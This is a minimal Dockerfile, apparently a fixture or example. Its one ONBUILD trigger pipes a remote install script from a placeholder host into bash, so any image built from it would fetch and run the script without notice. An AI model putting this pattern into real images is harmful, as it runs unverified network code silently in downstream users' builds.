FROM debian:12-slim
ONBUILD RUN <<EOF
set -e
curl -fsSL https://get.example.invalid/install.sh | bash
EOF
